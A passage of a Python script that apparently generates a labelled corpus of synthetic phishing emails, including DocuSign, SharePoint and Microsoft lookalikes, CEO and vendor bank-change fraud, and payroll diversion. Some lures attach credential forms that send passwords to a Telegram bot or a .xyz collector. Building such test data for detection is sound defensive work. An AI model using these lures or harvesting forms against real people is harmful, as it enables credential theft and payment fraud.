    _ = final

    # 13 ----------------------------------------------------------------- SharePoint lookalike from another tenant
    slug = "sharepoint-share-other-tenant-onenote"
    link = ("https://brightlineplumbing-my.sharepoint.com/:o:/g/personal/m_reyes_brightlineplumbing_com/"
            "EkXb7" + hx(slug, 38, ALNUM) + "?e=" + hx(slug + "e", 6, ALNUM))
    html = page(f"""<p style="font-size:13px;color:#605e5c">Kerlann Industries</p>
<p style="font-size:18px"><b>Thomas Girard</b> shared a file with you</p>
<table cellpadding="10" style="border:1px solid #e1dfdd;width:100%"><tr><td>
<span style="font-size:24px;color:#c43e1c">&#128462;</span> <b>Kerlann_Q2_Supplier_Payments.pdf</b><br>
<span style="color:#605e5c">"Camille, please review the attached payment schedule before Thursday's meeting."</span></td></tr></table>
<br>{button(link, "Open")}
<p style="font-size:11px;color:#605e5c">This link will work for anyone with the link. Privacy Statement<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>""")
    build(slug, "phishing",
          "SharePoint 'file shared' lookalike with 'Kerlann Industries' in the display name, sent from a plumbing "
          "firm's compromised Microsoft 365 account (all authentication passes); the PDF name links to a OneNote "
          "page in that other tenant's OneDrive",
          rcpt=CAM, moment="2025-04-15T15:36:02+02:00",
          frm='"Kerlann Industries via SharePoint" <m.reyes@brightlineplumbing.com>',
          subject="Thomas Girard shared \"Kerlann_Q2_Supplier_Payments\" with you",
          body=html_only(html),
          src=tenant_src(slug, "nam10"),
          auth=Auth("m.reyes@brightlineplumbing.com",
                    dkim=[("pass", "brightlineplumbing.com", "selector1")], policy="quarantine"),
          to="undisclosed-recipients:;",
          extra=("X-MS-Exchange-Organization-BypassClutter: false",))

    # 14 ----------------------------------------------------------------- DocuSign lookalike, contract amendment
    slug = "docusign-contract-amendment-cfd"
    link = "https://docusign-envelopes.cfd/Signing/EmailStart.aspx?a=" + uuid(slug) + "&etti=24&acct=" + uuid(slug + "a")
    html = page(f"""<div style="background:#1e1e1e;padding:18px;color:#fff;font-size:20px;font-weight:700">DocuSign</div>
<div style="background:#4c00ff;padding:28px;color:#fff;text-align:center">
<p style="font-size:16px">Kerlann Legal sent you a document to review and sign.</p>
<a href="{link}" style="background:#ffc820;color:#000;padding:10px 24px;text-decoration:none;font-weight:700">REVIEW DOCUMENT</a></div>
<p><b>Kerlann Legal</b><br>legal@kerlann-industries.fr</p>
<p>Please review and sign <b>Contract Amendment No. 2 - Master Transport Agreement</b>.</p>
<p style="font-size:12px"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign.
Please do not share this email, link, or access code with others.</p>
<p style="font-size:12px"><b>Alternate Signing Method</b><br>Visit DocuSign.com, click 'Access Documents', and enter
the security code: 4F2B9E0C1A7D4E3B8C1F6A2D0E9B7C5A1</p>""", font="Helvetica,Arial,sans-serif")
    build(slug, "phishing",
          "DocuSign envelope lookalike for a 'contract amendment' from docusign-envelopes.cfd; REVIEW DOCUMENT "
          "leads to the same .cfd domain, not docusign.net, while the text names the company's legal team",
          rcpt=JUL, moment="2025-02-20T17:14:45+01:00",
          frm='"Kerlann Legal via DocuSign" <dse@docusign-envelopes.cfd>',
          subject="Complete with DocuSign: Contract Amendment No. 2 - Master Transport Agreement",
          body=html_only(html),
          src=vps("mail.docusign-envelopes.cfd", "RU"),
          auth=Auth("dse@docusign-envelopes.cfd", dkim=[("pass", "docusign-envelopes.cfd", "default")], dmarc="none"))

    # 15 ----------------------------------------------------------------- genuine Acrobat Sign abused
    slug = "acrobat-sign-abused-sender-message-link"
    sign = "https://secure.na4.adobesign.com/public/esignWidget?wid=CBFCIBAA3AAABLblqZhA" + hx(slug, 40, ALNUM) + "*&hosted=false"
    extra_link = "https://cortland-rates.sbs/view?doc=AMD3-" + hx(slug + "d", 8, DIGITS)
    html = page(f"""<p style="font-size:20px;color:#eb1000;font-weight:700">Adobe Acrobat Sign</p>
<p style="font-size:16px"><b>Cortland Freight Partners</b> has requested your signature on<br><b>Contract Amendment #3 - Rate Schedule 2025</b></p>
{button(sign, "Review and sign", "#1473e6")}
<p style="background:#f5f5f5;padding:12px"><b>Message from Cortland Freight Partners:</b><br>
Hi Ryan, before signing please review the amended rate schedule and the updated remittance instructions here:
<a href="{extra_link}">{extra_link}</a> (sign in with your company email to view). Thanks, Accounts - Cortland</p>
<p style="font-size:11px;color:#707070">After you sign, all parties will receive a final PDF copy by email.
Don't forward this email: if you forward it, the recipient could sign the document.<br>
Adobe, 345 Park Avenue, San Jose, CA 95110-2704</p>""")
    build(slug, "phishing",
          "genuine Acrobat Sign mail (adobesign.com passes SPF, DKIM, DMARC) from an unknown 'Cortland Freight "
          "Partners' account; the sender's message carries a .sbs link asking to sign in with the company email",
          rcpt=RYA, moment="2025-08-05T10:44:19-04:00",
          frm='"Cortland Freight Partners via Adobe Acrobat Sign" <adobesign@adobesign.com>',
          subject="Signature requested on \"Contract Amendment #3 - Rate Schedule 2025\"",
          body=alt(slug, f"Cortland Freight Partners has requested your signature on Contract Amendment #3 - Rate "
                         f"Schedule 2025.\n\nReview and sign: {sign}\n\nMessage from Cortland Freight Partners:\n"
                         f"Hi Ryan, before signing please review the amended rate schedule and the updated remittance "
                         f"instructions here: {extra_link} (sign in with your company email to view). Thanks, "
                         f"Accounts - Cortland\n", html, "other"),
          src=Src("mail-na4.adobesign.com", "mail-na4.adobesign.com", "52.14.187.63"),
          auth=Auth("bounce-" + hx(slug, 10) + "@na4.adobesign.com", dkim=[("pass", "adobesign.com", "adbsgn")],
                    policy="reject"),
          reply_to='"Cortland Freight Partners" <ap.cortlandfreight@gmail.com>')

    # 16 ----------------------------------------------------------------- DocuSign SHTML attachment
    slug = "docusign-completed-shtml"
    form = login_form_html("DocuSign", CAM[1], "https://api.telegram.org/bot7781234411:AAH" + hx(slug, 32, ALNUM) +
                           "/sendMessage?chat_id=-100" + hx(slug + "c", 10, DIGITS),
                           "DocuSign - Completed Document",
                           "To view the completed document, confirm the email password of the recipient.")
    build(slug, "phishing",
          "'completed document' DocuSign lure from e-sign-kerlann.online; SHTML attachment is a credential form "
          "prefilled with the address that sends what is typed to a Telegram bot",
          rcpt=CAM, moment="2025-09-23T08:12:57+02:00",
          frm='"DocuSign Electronic Signature" <docs@e-sign-kerlann.online>',
          subject="Completed: Kerlann Industries - Mutual NDA (2025) - Camille Le Goff",
          body=mixed(slug, html_only(page(
              "<p style='font-size:20px;font-weight:700'>DocuSign</p><p>All parties have completed <b>Kerlann Industries "
              "- Mutual NDA (2025)</b>.</p><p>The completed document is attached. Open it in your browser to view.</p>"
              "<p style='font-size:11px;color:#888'>Powered by DocuSign</p>")),
              attachment("text/html", "Completed_Kerlann_NDA_2025.shtml", form), style="kit"),
          src=vps("vmi2311845.contaboserver.net", "DE"),
          auth=Auth("docs@e-sign-kerlann.online", spf="softfail", dmarc="none"))

    # 17 ----------------------------------------------------------------- OneDrive share through LinkedIn slink
    slug = "onedrive-share-linkedin-slink"
    link = "https://www.linkedin.com/slink?code=e" + hx(slug, 7, ALNUM)
    html = page(f"""<p style="font-size:18px"><b>Thomas Girard</b> shared a file with you</p>
<p>&#128196; <b>Q4 Forecast - Board.xlsx</b></p>
<p style="color:#605e5c">"Here is the forecast we discussed, please update your section today."</p>
{button(link, "Open")}
<p style="font-size:11px;color:#605e5c">Microsoft respects your privacy. To learn more, please read our Privacy Statement.</p>""")
    build(slug, "phishing",
          "OneDrive share lookalike naming the CFO, sent from a throwaway fileshare-notifications.net; the Open "
          "button is a linkedin.com/slink redirect hiding the destination",
          rcpt=CAM, moment="2025-10-08T16:05:11+02:00",
          frm='"Thomas Girard via OneDrive" <share@fileshare-notifications.net>',
          subject="Thomas Girard shared \"Q4 Forecast - Board\" with you",
          body=html_only(html),
          src=vps("smtp.fileshare-notifications.net", "US"),
          auth=Auth("share@fileshare-notifications.net", spf="pass",
                    dkim=[("pass", "fileshare-notifications.net", "mail")], policy="none"))


def phishing_bec() -> None:
    # 18 ----------------------------------------------------------------- vendor thread, lookalike, bank change
    slug = "vendor-invoice-4471-bank-change-lookalike"
    plain = """Hi Ryan,

Thanks for confirming receipt. Just a heads-up before you schedule the payment for Invoice 4471 ($38,460.00):
we have moved our operating account following our annual audit, and our previous account at Truist is no longer
able to receive ACH or wire transfers. Any payment sent there will be returned and may delay your next deliveries.

Please update our remittance details on file as follows:

Bank: Lead Bank
Account name: Harbor Pallet Supply LLC
Routing (ABA): 101019644
Account: 8847 2210 4471 93

The updated W-9 and bank letter will follow from our controller. Could you confirm once the change is made and
let me know the expected payment date?

Best regards,

Karen Whitfield
Accounts Receivable | Harbor Pallet Supply LLC
1420 Terminal Rd, Savannah, GA 31408
(912) 555-0147

________________________________
From: Ryan Castillo <ryan.castillo@kerlann.com>
Sent: Monday, September 15, 2025 4:12 PM
To: Karen Whitfield <k.whitfield@harborpallet.com>
Subject: RE: Invoice 4471

Hi Karen,

Received, thanks. It's approved and will go out in Thursday's payment run.

Ryan

________________________________
From: Karen Whitfield <k.whitfield@harborpallet.com>
Sent: Monday, September 15, 2025 10:03 AM
To: Ryan Castillo <ryan.castillo@kerlann.com>
Subject: Invoice 4471

Good morning Ryan,

Please find attached Invoice 4471 for the August pallet deliveries to your Charlotte DC (1,240 units, 48x40 GMA).
Payment terms Net 30.

Thank you,
Karen
"""
    build(slug, "phishing",
          "vendor email compromise: reply in a real supplier thread from harborpallets.com (an added s, authenticated "
          "on its own), asking to move the $38,460 payment of invoice 4471 to a new bank account; no link",
          rcpt=RYA, moment="2025-09-16T08:27:41-04:00",
          frm='"Karen Whitfield" <k.whitfield@harborpallets.com>',
          subject="RE: Invoice 4471",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=tenant_src(slug, "nam12"),
          auth=Auth("k.whitfield@harborpallets.com", dkim=[("pass", "harborpallets.com", "selector1")], policy="none"),
          extra=("In-Reply-To: <BN8PR12MB3361E0A3F1B2C7D8@BN8PR12MB3361.namprd12.prod.outlook.com>",
                 "References: <DM6PR11MB4412A7B3C1E9D2F0@DM6PR11MB4412.namprd11.prod.outlook.com>\n"
                 " <BN8PR12MB3361E0A3F1B2C7D8@BN8PR12MB3361.namprd12.prod.outlook.com>",
                 "Thread-Topic: Invoice 4471", "Thread-Index: AQHbJ2x4kR7m1nq0S0+3pB1yC0ZfLQAAZxwAAAZ7b9A=",
                 "Content-Language: en-US"))

    # 19 ----------------------------------------------------------------- compromised supplier, remittance portal moved
    slug = "supplier-remittance-portal-moved-pages-dev"
    link = "https://pennine-remit.pages.dev/?ref=KRL-" + hx(slug, 6, DIGITS) + "&c=" + b64s(JUL[1])
    plain = f"""Dear Julien,

Please note that Pennine Freight Services has moved its remittance and statement portal to a new secure platform
as of 1 October 2025. All customers are asked to log in once to confirm their remittance contact and view the
outstanding statement for September (3 invoices, GBP 12,940.50).

Access the new portal here:
{link}

You will be asked to complete a short security check and to sign in with your business email.

If you have any questions please contact me directly.

Kind regards,

Gemma Clarke
Credit Control
Pennine Freight Services Ltd
Unit 7, Lowfields Business Park, Elland HX5 9DA
"""
    build(slug, "phishing",
          "compromised UK supplier mailbox (penninefreight.co.uk passes SPF, DKIM, DMARC) announcing that its "
          "remittance portal has moved; the link goes to a pages.dev site behind a security check with the address",
          rcpt=JUL, moment="2025-10-02T11:18:09+01:00",
          frm='"Gemma Clarke" <g.clarke@penninefreight.co.uk>',
          subject="Pennine Freight - our remittance portal has moved",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=tenant_src(slug, "eur05", "GB"),
          auth=Auth("g.clarke@penninefreight.co.uk", dkim=[("pass", "penninefreight.co.uk", "selector2")],
                    policy="quarantine"),
          extra=("Content-Language: en-GB",))

    # 20 ----------------------------------------------------------------- CEO wire from Gmail
    slug = "ceo-wire-gmail"
    plain = """Julien,

I hope your day is going well. I need your discreet help with a time-sensitive matter.

We are finalising the acquisition of a logistics partner in the Netherlands and the signing is planned for this
afternoon. The notary requires a deposit of EUR 86,400 to be transferred today so that the exclusivity period
is not lost. The board is aware, but the file must remain strictly confidential until the official
announcement next week, so please do not discuss it with anyone in the office, including Thomas.

I am in meetings with the advisers all day and can only be reached by email. Can you confirm that you are able to
process a SEPA instant transfer now? I will send you the beneficiary details as soon as you reply.

Thank you for your trust and responsiveness.

Hélène Marchand
CEO, Kerlann Industries

Sent from my iPhone
"""
    build(slug, "phishing",
          "CEO fraud: the CEO's name on a Gmail address, polished confidential acquisition pretext asking for an "
          "instant EUR 86,400 transfer, email-only contact, tells the reader to keep it from the CFO",
          rcpt=JUL, moment="2025-06-05T13:07:32+02:00",
          frm=f'{encoded_word("Hélène Marchand")} <helene.marchand.kerlann@gmail.com>',
          subject="Confidential - are you available?",
          body=alt(slug, plain, "<div dir=\"ltr\">" + plain.replace("\n", "<br>") + "</div>", "gmail"),
          src=gmail_src(slug),
          auth=Auth("helene.marchand.kerlann@gmail.com", dkim=[("pass", "gmail.com", "20230601")], policy="none"))

    # 21 ----------------------------------------------------------------- CFO gift cards from lookalike
    slug = "cfo-gift-cards-lookalike-domain"
    plain = """Hi Megan,

Are you at the office today? I'd like to surprise some of the Charlotte team with appreciation gifts for the Q3
results and I need your help to keep it quiet until Friday.

Please pick up 8 Apple gift cards, $200 each, from the nearest Best Buy or Walgreens. Scratch off the back,
take a clear picture of each card showing the code and send them to me by email. I'm traveling between
meetings so email is the best way to reach me. Keep the receipts and you will be reimbursed through expenses.

Let me know when you're on it.

Thanks,
Thomas Girard
CFO
"""
    build(slug, "phishing",
          "gift-card BEC: the CFO's name from kerlann-industries.co (the organisation's domain on another TLD), "
          "asks for photos of 8 x $200 Apple card codes, secrecy and email-only contact",
          rcpt=MEG, moment="2025-10-21T09:48:15-04:00",
          frm='"Thomas Girard" <thomas.girard@kerlann-industries.co>',
          subject="Quick favor",
          body=text(plain),
          src=vps("mail.kerlann-industries.co", "US"),
          auth=Auth("thomas.girard@kerlann-industries.co", dkim=[("pass", "kerlann-industries.co", "default")],
                    dmarc="none"),
          reply_to="thomas.girard.cfo@proton.me")

    # 22 ----------------------------------------------------------------- attorney pretext, merger confidentiality
    slug = "attorney-merger-escrow-pretext"
    plain = """Dear Mr. Morvan,

I am writing on behalf of Ms. Hélène Marchand in connection with Project Halyard, the proposed acquisition
currently under negotiation by Kerlann Industries. Ms. Marchand has authorised me to coordinate the closing
formalities with your finance team and has asked that you be my sole point of contact.

As you may be aware, this transaction is subject to a strict non-disclosure agreement and to market regulations
on inside information. Please do not discuss this matter with other members of staff, by telephone or otherwise,
until the public announcement.

The seller's counsel has requested an escrow deposit of EUR 240,000, representing 2% of the purchase price,
to be received no later than 16:00 CET tomorrow. Could you confirm today the maximum amount that can be released
from the company's accounts in a single transfer, and the approval procedure on your side? I will then send you
the escrow agent's details on our firm's letterhead.

I remain at your disposal.

Yours faithfully,

Jonathan Whitaker
Partner, Whitaker Hale LLP
Mergers & Acquisitions
28 Finsbury Circus, London EC2M 7EA
"""
    build(slug, "phishing",
          "attorney/merger BEC: a 'partner' at whitaker-hale-law.com (newly registered) invokes the CEO and an NDA, "
          "asks the accountant to keep silent and state the transfer limit before an EUR 240,000 escrow deposit; "
          "a lookalike of the CEO's address in Cc",
          rcpt=JUL, moment="2025-11-18T15:40:06+01:00",
          frm='"Jonathan Whitaker" <j.whitaker@whitaker-hale-law.com>',
          cc=f'{encoded_word("Hélène Marchand")} <h.marchand@kerlann-industries-group.com>',
          subject="Project Halyard - Strictly Private & Confidential",
          body=alt(slug, plain, plain_html(plain.split("\n\n"), font="Georgia,serif")),
          src=vps("mail.whitaker-hale-law.com", "GB"),
          auth=Auth("j.whitaker@whitaker-hale-law.com", dkim=[("pass", "whitaker-hale-law.com", "mail")],
                    dmarc="none"))

    # 23 ----------------------------------------------------------------- US GM quick task from Outlook.com
    slug = "gm-quick-task-outlook-com"
    plain = "Megan,\n\nAre you at your desk? I need you to handle a quick task for me. I'm in a meeting and can't " \
            "take calls right now. Reply with your cell number and I'll text you the details.\n\nDaniel\n\nSent from my iPhone\n"
    build(slug, "phishing",
          "BEC opener: the US general manager's name on an outlook.com address, 'quick task', can't talk, asks for "
          "a mobile number to move to text messages",
          rcpt=MEG, moment="2025-08-12T10:03:58-04:00",
          frm='"Daniel Brooks" <danielbrooks.kerlann@outlook.com>',
          subject="Request",
          body=text(plain),
          src=outlook_src(slug),
          auth=Auth("danielbrooks.kerlann@outlook.com", dkim=[("pass", "outlook.com", "selector1")], policy="none"),
          extra=("X-Mailer: iPhone Mail (21G93)",))

    # 24 ----------------------------------------------------------------- payroll diversion, employee impersonation
    slug = "payroll-diversion-employee-gmail"
    plain = """Hi Priya,

I recently switched banks and I'd like my paycheck to go to my new account starting with the next pay run.
What is the process? If there is a form, can you send it to me here, or could you update it for me directly?
I'm working from the warehouse this week and can't get into the portal from my phone.

Thanks a lot,
Ryan Castillo
"""
    build(slug, "phishing",
          "payroll diversion: an employee's name on a Gmail address asks HR to change the direct-deposit account "
          "for the next pay run and to skip the portal",
          rcpt=PRI, moment="2025-04-22T12:19:44-04:00",
          frm='"Ryan Castillo" <rcastillo.kerlann@gmail.com>',
          subject="Direct deposit update",
          body=alt(slug, plain, "<div dir=\"ltr\">" + plain.replace("\n", "<br>") + "</div>", "gmail"),
          src=gmail_src(slug),
          auth=Auth("rcastillo.kerlann@gmail.com", dkim=[("pass", "gmail.com", "20230601")], policy="none"))

    # 25 ----------------------------------------------------------------- CEO asks for WhatsApp, lookalike domain
    slug = "ceo-whatsapp-lookalike"
    plain = """Hello Oliver,

Are you available? I have a confidential matter regarding a UK client I need you to handle discreetly today.
Please send me your WhatsApp number so we can continue there, I am travelling.

Best,
Hélène Marchand
Chief Executive Officer
Kerlann Industries
"""
    build(slug, "phishing",
          "CEO impersonation from kerlann-group.org, asks the UK account manager for a WhatsApp number to move a "
          "'confidential matter' off email",
          rcpt=OLI, moment="2025-09-02T08:54:21+01:00",
          frm=f'{encoded_word("Hélène Marchand")} <ceo.office@kerlann-group.org>',
          subject="Confidential",
          body=text(plain),
          src=vps("mail.kerlann-group.org", "US"),
          auth=Auth("ceo.office@kerlann-group.org", dkim=[("pass", "kerlann-group.org", "k")], dmarc="none"))

    # 26 ----------------------------------------------------------------- ACH change form DOCX with link
    slug = "vendor-ach-update-docx-link"
    doc = docx_rich([
        "Cortland Freight Partners LLC - ACH Payment Instructions Update",
        "Effective immediately, all payments to Cortland Freight Partners must be remitted to our new account.",
        "Beneficiary: Cortland Freight Partners LLC",
        "Bank: Choice Financial Group",
        "ABA Routing: 091311229",
        "Account number: 202487331190",
        "To keep your account in good standing, confirm the update and upload your voided check through our "
        "vendor portal:",
    ], "ACH Update", "Accounts Receivable",
        link=("https://cortlandfreight-billing.com/vendor/ach-verify?c=kerlann&u=" + quote(RYA[1]),
              "Confirm ACH update (Vendor Portal)"))
    build(slug, "phishing",
          "vendor bank change from cortlandfreight-billing.com: DOCX with new ACH details and a link to a 'vendor "
          "portal' on the same lookalike domain carrying the recipient's address",
          rcpt=RYA, moment="2025-08-14T15:02:33-04:00",
          frm='"Cortland Freight Partners - AR" <ar@cortlandfreight-billing.com>',
          subject="Updated ACH remittance instructions - action needed before next payment",
          body=mixed(slug, alt(slug,
                "Hello,\n\nPlease see the attached notice regarding our updated ACH remittance instructions. Kindly "
                "update your vendor master file before releasing the payment for our open invoices (#CF-20817, "
                "#CF-20844).\n\nThank you,\nAccounts Receivable\nCortland Freight Partners LLC",
                plain_html(["Hello,", "Please see the attached notice regarding our updated ACH remittance "
                            "instructions. Kindly update your vendor master file before releasing the payment for our "
                            "open invoices (#CF-20817, #CF-20844).",
                            "Thank you,\nAccounts Receivable\nCortland Freight Partners LLC"])),
                attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                           "ACH_Update_Notice.docx", doc)),
          src=vps("mail.cortlandfreight-billing.com", "US"),
          auth=Auth("ar@cortlandfreight-billing.com", dkim=[("pass", "cortlandfreight-billing.com", "default")],
                    dmarc="none"))


def phishing_account() -> None:
    # 27 ----------------------------------------------------------------- MFA re-registration on -sso lookalike
    slug = "mfa-reregister-sso-lookalike"
    link = "https://login.kerlann-sso.com/mfa/register?upn=" + quote(CAM[1]) + "&tenant=kerlann-industries.fr"
    html = page(f"""<p style="font-size:18px;font-weight:600">Action required: re-register your MFA method</p>
<p>Hello Camille,</p>
<p>As part of the migration to passwordless sign-in, all Kerlann Industries accounts must re-register Microsoft
Authenticator by <b>Friday 14 March 2025</b>. Accounts that have not re-registered will be blocked from Outlook,
Teams and SharePoint until the Service Desk resets them.</p>
<p>The registration takes less than two minutes:</p>
{button(link, "Re-register now")}
<p>Thank you for your cooperation,<br>Kerlann IT Service Desk<br>Ext. 4400</p>""")
    build(slug, "phishing",
          "MFA re-registration deadline from 'Kerlann IT Service Desk' at kerlann-sso.com; the link goes to "
          "login.kerlann-sso.com with the user's address and tenant in the query",
          rcpt=CAM, moment="2025-03-11T08:03:19+01:00",
          frm='"Kerlann IT Service Desk" <servicedesk@kerlann-sso.com>',
          subject="[Action Required] Re-register Microsoft Authenticator before 14/03",
          body=alt(slug, f"Action required: re-register your MFA method before Friday 14 March 2025.\n{link}\n"
                         "Kerlann IT Service Desk", html),
          src=vps("smtp.kerlann-sso.com", "NL"),
          auth=Auth("servicedesk@kerlann-sso.com", dkim=[("pass", "kerlann-sso.com", "s1")], policy="none"))

    # 28 ----------------------------------------------------------------- unusual sign-in, punycode homoglyph
    slug = "unusual-signin-punycode-microsoft"
    host = "account.mіcrosoft-signin.com".encode("idna").decode()
    link = f"https://{host}/recover?mkt=en-US&uaid={hx(slug, 32)}&email={quote(SOP[1])}"
    html = page(f"""<p style="font-size:15px;color:#2672ec">Microsoft account</p>
<p style="font-size:36px;color:#2672ec;margin:8px 0">Unusual sign-in activity</p>
<p>We detected something unusual about a recent sign-in to the Microsoft account <b>{SOP[1]}</b>.</p>
<p><b>Sign-in details</b><br>Country/region: Nigeria<br>IP address: 102.89.47.113<br>Date: 06/02/2025 03:12 (GMT)<br>
Platform: Windows<br>Browser: Chrome</p>
<p>Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help
you secure your account. If this was you, we'll trust similar activity in the future.</p>
<p><a href="{link}" style="background:#2672ec;color:#fff;padding:8px 20px;text-decoration:none">Review recent activity</a></p>
<p>To opt out or change where you receive security notifications, <a href="{link}">click here</a>.</p>
<p>Thanks,<br>The Microsoft account team</p>""")
    build(slug, "phishing",
          "Microsoft 'unusual sign-in' lookalike from accountprotection-microsoft.com; links go to a punycode host "
          "whose Unicode form hides a Cyrillic i in microsoft, with the address in the query",
          rcpt=SOP, moment="2025-02-06T07:44:50+01:00",
          frm='"Microsoft account team" <account-security-noreply@accountprotection-microsoft.com>',
          subject="Microsoft account unusual sign-in activity",
          body=html_only(html),
          src=vps("mx.accountprotection-microsoft.com", "US"),
          auth=Auth("account-security-noreply@accountprotection-microsoft.com", spf="pass",
                    dkim=[("pass", "accountprotection-microsoft.com", "default")], dmarc="none"))

    # 29 ----------------------------------------------------------------- Google Workspace new device via doubleclick
    slug = "workspace-new-device-doubleclick"
    target = "https://gworkspace-verify.live/signin/v2/challenge?continue=mail&hl=en&Email=" + quote(OLI[1])
    link = ("https://ad.doubleclick.net/ddm/trackclk/N7714.3186PRO/B30452861.391827445;dc_trk_aid=582716334;"
            "dc_trk_cid=211847392;dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=;ltd=;dc_tdv=1?" + target)
    html = page(f"""<p style="font-size:22px"><span style="color:#4285f4">G</span><span style="color:#ea4335">o</span><span style="color:#fbbc05">o</span><span style="color:#4285f4">g</span><span style="color:#34a853">l</span><span style="color:#ea4335">e</span></p>
<p style="font-size:20px">A new device signed in to your account</p>
<p style="color:#5f6368">{OLI[1]}</p>
<p>Your Google Workspace account was just signed in to from a new Windows device. You're getting this email to make
sure it was you.</p>
{button(link, "Check activity", "#1a73e8")}
<p style="font-size:12px;color:#5f6368">If you don't recognise this activity, your account may be locked within 24 hours.
You can also see security activity at https://myaccount.google.com/notifications</p>""", font="Roboto,Arial,sans-serif")
    build(slug, "phishing",
          "Google new-device alert lookalike from gsuite-securitycheck.live; 'Check activity' is a doubleclick.net "
          "tracking redirect to a .live page with the address, while the text shows the real myaccount URL",
          rcpt=OLI, moment="2025-05-19T06:31:08+01:00",
          frm='"Google Workspace" <no-reply@gsuite-securitycheck.live>',
          subject="Security alert for " + OLI[1],
          body=html_only(html),
          src=vps("mail.gsuite-securitycheck.live", "US"),
          auth=Auth("no-reply@gsuite-securitycheck.live", dkim=[("pass", "gsuite-securitycheck.live", "mail")],
                    dmarc="none"))

    # 30 ----------------------------------------------------------------- password reset via other tenant's SafeLinks
    slug = "password-reset-safelinks-other-tenant"
    target = "https://m365-account-recovery.shop/reset?id=" + hx(slug, 16) + "&user=" + quote(CAM[1])
    link = ("https://nam12.safelinks.protection.outlook.com/?url=" + quote(target, safe="") +
            "&data=05%7C02%7Cjdavis%40tristatehvac.com%7C" + hx(slug + "d", 32) +
            "%7C84df9e7fe9f640afb435aaaaaaaaaaaa%7C1%7C0%7C638771234567890123%7CUnknown%7CTWFpbGZsb3d8eyJFbXB0eU1hcGkiOnRydWUsIlYiOiIwLjAuMDAwMCIsIlAiOiJXaW4zMiIsIkFOIjoiTWFpbCIsIldUIjoyfQ%3D%3D%7C0%7C%7C%7C&sdata="
            + quote(hx(slug + "s", 43, B64) + "=", safe="") + "&reserved=0")
    html = page(f"""<p style="font-size:20px;font-weight:600">Password reset requested</p>
<p>We received a request to reset the password for the Microsoft 365 account <b>{CAM[1]}</b>.</p>
<p>If you made this request, no action is needed; your password will be reset in 2 hours.</p>
<p>If you did <b>not</b> request a password reset, cancel the request now to keep your account secure:</p>
{button(link, "Cancel password reset", "#d13438")}
<p style="font-size:11px;color:#605e5c">Microsoft 365 &middot; Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>""")
    build(slug, "phishing",
          "password-reset 'cancel the request' pretext sent from a compromised HVAC firm's tenant; the link is "
          "another tenant's Outlook SafeLinks wrapping a .shop page with the address in the query",
          rcpt=CAM, moment="2025-03-19T13:26:37+01:00",
          frm='"Microsoft 365" <jdavis@tristatehvac.com>',
          subject="Password reset requested for your account",
          body=html_only(html),
          src=tenant_src(slug, "nam12"),
          auth=Auth("jdavis@tristatehvac.com", dkim=[("pass", "tristatehvac.com", "selector1")], policy="none"),
          to="undisclosed-recipients:;")

    # 31 ----------------------------------------------------------------- license expired, image-only body
    slug = "m365-license-expired-image-body"
    link = "https://m365-license-renew.click/billing/?e=" + b64s(JUL[1])
    img = text_png([
        ("Microsoft 365", 22, (255, 255, 255)),
        ("", 10, (0, 0, 0)),
        ("Your Microsoft 365 Business Standard license has expired", 19, (50, 49, 48)),
        ("", 8, (0, 0, 0)),
        (f"Account: {JUL[1]}", 15, (50, 49, 48)),
        ("Your mailbox will be suspended in 48 hours and incoming mail", 15, (50, 49, 48)),
        ("will be rejected. Reactivate your license to keep your data.", 15, (50, 49, 48)),
    ], (640, 330), header=(0, 103, 184), button=("Reactivate license", (0, 103, 184)))
    html = (f'<html><body style="margin:0"><center><a href="{link}"><img src="cid:lic_{hx(slug, 8)}" width="640" '
            'height="330" alt="Microsoft 365" style="border:0;display:block"></a>'
            '<p style="font-size:1px;color:#ffffff">billing notice reference 20250708</p></center></body></html>\n')
    build(slug, "phishing",
          "Microsoft 365 'license expired' notice whose whole visible text is an image linked to a .click page with "
          "the address base64 in the query; hidden white text is the only HTML text",
          rcpt=JUL, moment="2025-07-08T07:12:54+02:00",
          frm='"Microsoft 365 Billing" <billing@m365-licensing-center.com>',
          subject="Your Microsoft 365 license has expired",
          body=related(slug, html, inline_png("image001.png", img, f"lic_{hx(slug, 8)}")),
          src=vps("mta1.m365-licensing-center.com", "US"),
          auth=Auth("billing@m365-licensing-center.com", dkim=[("pass", "m365-licensing-center.com", "x")],
                    dmarc="none"))

    # 32 ----------------------------------------------------------------- mailbox migration, own-domain spoof, HTM
    slug = "mailbox-migration-own-domain-spoof-htm"
    form = login_form_html("Kerlann Industries - Outlook", SOP[1], "https://owa-sync-kerlann.xyz/next.php",
                           "Mailbox Migration - Validate Account",
                           "Your mailbox is being migrated to the new Exchange server. Enter your password to keep "
                           "your emails, contacts and calendar.")
    build(slug, "phishing",
          "mailbox-migration notice spoofing the organisation's own it-support address from an outside server "
          "(SPF fail, DMARC fail); HTM attachment is a prefilled Outlook login posting to a .xyz collector",
          rcpt=SOP, moment="2025-05-06T11:59:13+02:00",
          frm='"IT Support" <it-support@kerlann-industries.fr>',
          subject="Mailbox migration to new Exchange server - validate before 17:00",
          body=mixed(slug, alt(slug,
                "Dear user,\n\nYour mailbox sophie.tanguy@kerlann-industries.fr is scheduled for migration to the new "
                "Exchange server today. To avoid losing emails, open the attached validation form and confirm your "
                "account before 17:00.\n\nIT Support\nKerlann Industries",
                page("<p>Dear user,</p><p>Your mailbox <b>sophie.tanguy@kerlann-industries.fr</b> is scheduled for "
                     "migration to the new Exchange server today. To avoid losing emails, open the attached validation "
                     "form and confirm your account before <b>17:00</b>.</p><p>IT Support<br>Kerlann Industries</p>"), "kit"),
                attachment("text/html", "Mailbox_Validation_Form.htm", form), style="kit"),
          src=vps("vps-4f1a2c.hosted-by-vdsina.ru", "RU"),
          auth=Auth("it-support@kerlann-industries.fr", spf="fail", dmarc="fail", policy="none",
                    compauth="fail reason=601"))

    # 33 ----------------------------------------------------------------- quarantine digest via TinyURL
    slug = "quarantine-held-messages-tinyurl"
    link = "https://tinyurl.com/kr" + hx(slug, 6, string.ascii_lowercase + DIGITS)
    rows = "".join(f"<tr><td>{s}</td><td>{f}</td><td>{d}</td><td><a href='{link}'>Release</a></td></tr>"
